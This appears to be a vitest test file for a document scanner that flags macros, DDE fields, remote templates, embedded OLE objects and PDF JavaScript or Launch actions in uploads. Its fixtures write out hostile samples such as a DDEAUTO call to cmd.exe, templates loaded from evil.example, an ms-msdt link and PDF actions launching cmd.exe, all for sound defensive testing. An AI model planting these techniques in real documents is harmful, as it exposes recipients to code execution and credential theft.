import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { wordFile } from "#app/demo/files.ts";
import { findActiveContent } from "#app/platform/active-content/active-content.ts";
import { findInFile } from "#app/platform/active-content/find-in-file.ts";
import {
  body,
  field,
  microsoft,
  odf,
  office,
  packed,
  pdf,
  related,
  relations,
  types,
  word,
} from "../../factories/active-documents.ts";
import { fine } from "../../factories/fine-documents.ts";

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "noonday-active-"));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

let files = 0;
function aFile(contents: Buffer): string {
  files += 1;
  const path = join(folder, `${files}`);
  writeFileSync(path, contents);
  return path;
}

const macros: [string, Buffer][] = [
  [
    "a hidden vbaProject, told by its content type",
    word({
      "[Content_Types].xml": types(
        '<Override PartName="/word/theme.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
      "word/theme.xml": "x",
    }),
  ],
  [
    "a hidden vbaProject, told by its relationship",
    related({ type: `${microsoft}/vbaProject`, target: "theme.bin" }),
  ],
  [
    "a usual type for an ending that a part has",
    word({
      "[Content_Types].xml": types(
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
      "word/x.bin": "x",
    }),
  ],
  [
    "a ribbon that calls at its start",
    word({
      "_rels/.rels": relations({ type: `${microsoft}/ui/extensibility`, target: "ui/a.xml" }),
      "ui/a.xml": '<customUI onLoad="run"/>',
    }),
  ],
  [
    "another prefix than usual",
    word({
      "[Content_Types].xml": types(
        '<z:Override xmlns:z="z" PartName="/a.b" ContentType="application/vnd.ms-word.vbaData+xml"/>',
      ),
    }),
  ],
];
const remote: [string, Buffer][] = [
  [
    "a template at an address",
    word({
      "word/_rels/settings.xml.rels": relations({
        type: `${office}/attachedTemplate`,
        target: "https://evil.example/a.dotm",
        external: true,
      }),
    }),
  ],
  [
    "a template on a share",
    related({ type: `${office}/attachedTemplate`, target: "\\\\evil\\share\\a.dotx", external: true }),
  ],
  [
    "a template on a share, as an address",
    related({ type: `${office}/attachedTemplate`, target: "file://evil/share/a.dotx", external: true }),
  ],
  [
    "a template by the strict name",
    related({
      type: "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
      target: "http://evil.example",
      external: true,
    }),
  ],
  [
    "a frame",
    word({
      "word/_rels/webSettings.xml.rels": relations({
        type: `${office}/frame`,
        target: "http://evil.example",
        external: true,
      }),
    }),
  ],
  [
    "a linked object",
    related({ type: `${office}/oleObject`, target: "http://evil.example/a.rtf", external: true }),
  ],
  [
    "a picture at an address",
    related({ type: `${office}/image`, target: "https://evil.example/pixel.png", external: true }),
  ],
  [
    "something nobody knows yet, outside",
    related({ type: `${office}/tomorrow`, target: "https://evil.example", external: true }),
  ],
  [
    "a link that starts a tool",
    related({ type: `${office}/hyperlink`, target: "ms-msdt:/id x", external: true }),
  ],
  [
    "a link that is a script",
    related({ type: `${office}/hyperlink`, target: " java\tscript:alert(1)", external: true }),
  ],
];
const embedded: [string, Buffer][] = [
  ["an OLE object", related({ type: `${office}/oleObject`, target: "embeddings/oleObject1.bin" })],
  ["a workbook to be opened", related({ type: `${office}/package`, target: "embeddings/a.xlsx" })],
  ["an ActiveX control", related({ type: `${office}/control`, target: "activeX/activeX1.xml" })],
  ["another document taken in", related({ type: `${office}/aFChunk`, target: "a.html" })],
];
const dde: [string, Buffer][] = [
  ["DDEAUTO in one run", body(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))],
  ["DDE spread over runs", body(field(" D", "D", "E", " excel a b"))],
  ["DDEAUTO in an attribute", body('<w:fldSimple w:instr="  ddeauto a b"/>')],
  ["DDE inside another field", body(field(' IF 1 = 1 "', field(" DDE a b "), '" '))],
  ["a command that is worked out by fields", body(field(field(" QUOTE 68 68 69 "), " a b"))],
  [
    "a field in a header that is never closed",
    word({
      "word/header1.xml":
        '<w:hdr><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a b</w:instrText></w:hdr>',
    }),
  ],
];
const linked: [string, Buffer][] = [
  ["LINK", body(field(" LINK Excel.Sheet.12 c:\\\\a.xlsx R1C1 "))],
  [
    "a workbook that takes in another",
    word({
      "xl/_rels/workbook.xml.rels": relations({
        type: `${office}/externalLink`,
        target: "externalLinks/externalLink1.xml",
      }),
    }),
  ],
  ["a section of another document", odf('<text:section-source xlink:href="https://evil.example/a.odt"/>')],
];
const ofOpenDocument: [string, string, Buffer][] = [
  ["macros", "a script", odf('<office:scripts><office:script script:language="x"/></office:scripts>')],
  [
    "macros",
    "a listener",
    odf(
      '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>',
    ),
  ],
  [
    "macros",
    "a slide that starts a program",
    odf('<presentation:event-listener presentation:action="execute" xlink:href="file:///c:/a.exe"/>'),
  ],
  ["embedded", "an OLE object", odf('<draw:object-ole xlink:href="./Object 1"/>')],
  [
    "embedded",
    "an OLE object in its list",
    odf("", {
      "META-INF/manifest.xml":
        '<m:manifest><m:file-entry m:media-type="application/vnd.sun.star.oleobject"/></m:manifest>',
    }),
  ],
  ["remote", "a picture at an address", odf('<draw:image xlink:href="https://evil.example/a.png"/>')],
  ["remote", "a frame", odf('<draw:floating-frame xlink:href="https://evil.example"/>')],
  ["dde", "DDE", odf('<office:dde-source office:dde-application="a"/>')],
];
const ofPdf: [string, string, Buffer][] = [
  ["pdf-javascript", "JavaScript when it opens", pdf("<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")],
  ["pdf-javascript", "an escaped name", pdf("<</S/J#61vaScript/#4aS 5 0 R>>")],
  ["pdf-javascript", "in packed objects", pdf(packed("<</A<</S/JavaScript/JS(x)>>>>"))],
  [
    "pdf-javascript",
    "in packed objects whose length stands elsewhere",
    pdf(packed("<</S/JavaScript>>", { length: false })),
  ],
  [
    "pdf-javascript",
    "in objects packed twice",
    pdf(packed("<</S/JavaScript>>", { filters: "[/ASCIIHexDecode/FlateDecode]", asHex: true })),
  ],
  ["pdf-javascript", "behind a comment", pdf("<<%>>\n/S%)\n/JavaScript>>")],
  [
    "pdf-javascript",
    "in what claims to be a picture",
    pdf("<</Length 60>>stream\n9 0 obj<</S/JavaScript/JS(x)>>endobj\nendstream"),
  ],
  ["pdf-javascript", "as an address", pdf("<</S/URI/URI(javascript:alert\\(1\\))>>")],
  ["pdf-launch", "Launch", pdf("<</Type/Annot/A<</S/Launch/F(cmd.exe)>>>>")],
  ["pdf-launch", "another file", pdf("<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>")],
  ["pdf-attachment", "a file inside", pdf("<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>")],
  ["pdf-form", "a form that is sent", pdf("<</AA<</O<</S/SubmitForm/F(https://evil.example)>>>>>>")],
  ["pdf-form", "XFA", pdf("<</AcroForm<</XFA 4 0 R>>>>")],
];
const all = (kind: string, found: string, files: [string, Buffer][]) =>
  files.map(([what, file]) => [kind, found, what, file] as const);

describe("a document is refused", () => {
  it.each([
    ...all("word", "macros", macros),
    ...all("word", "remote", remote),
    ...all("word", "embedded", embedded),
    ...all("word", "dde", dde),
    ...all("word", "linked-files", linked.slice(0, 1)),
    ...all("excel", "linked-files", linked.slice(1, 2)),
    ...all("odt", "linked-files", linked.slice(2)),
    ...ofOpenDocument.map(([found, what, file]) => ["odt", found, what, file] as const),
    ...ofPdf.map(([found, what, file]) => ["pdf", found, what, file] as const),
  ])("(%s) for %s: %s", async (kind, found, _what, file) => {
    expect(await findInFile(aFile(file), kind)).toBe(found);
  });

  it("where two of its parts have one name", async () => {
    const twice = word({ "word/a.xml": "<a/>", "WORD/a.xml": "<b/>" });
    expect(await findInFile(aFile(twice), "word")).toBe("disguised");
  });

  it("where its objects are packed in a way that nobody can read", async () => {
    const file = pdf(packed("<</S/P>>", { filters: "/Crypt" }));
    await expect(findInFile(aFile(file), "pdf")).rejects.toThrow("not known");
    expect(await findActiveContent(aFile(file), "pdf")).toBe("not-checked");
  });
});

describe("a document is taken", () => {
  it.each(fine)("(%s) with %s", async (kind, _what, file) => {
    expect(await findInFile(aFile(file), kind)).toBeNull();
  });

  it("by a program of its own, which tells the two apart", async () => {
    expect(await findActiveContent(aFile(wordFile(["fine"])), "word")).toEqual({ found: null });
    const launching = pdf("<</S/Launch>>");
    expect(await findActiveContent(aFile(launching), "pdf")).toEqual({ found: "pdf-launch" });
    expect(await findActiveContent(join(folder, "no such image"), "png")).toEqual({ found: null });
  });
});

it("a file that asks for much work is not read for ever", async () => {
  const nested = pdf("[".repeat(200_000));
  await expect(findInFile(aFile(nested), "pdf")).rejects.toThrow("too much");
  const repeated = Buffer.from(`%PDF-1.7\n${"obj ".repeat(500_000)}`, "latin1");
  expect(await findInFile(aFile(repeated), "pdf")).toBeNull();
});
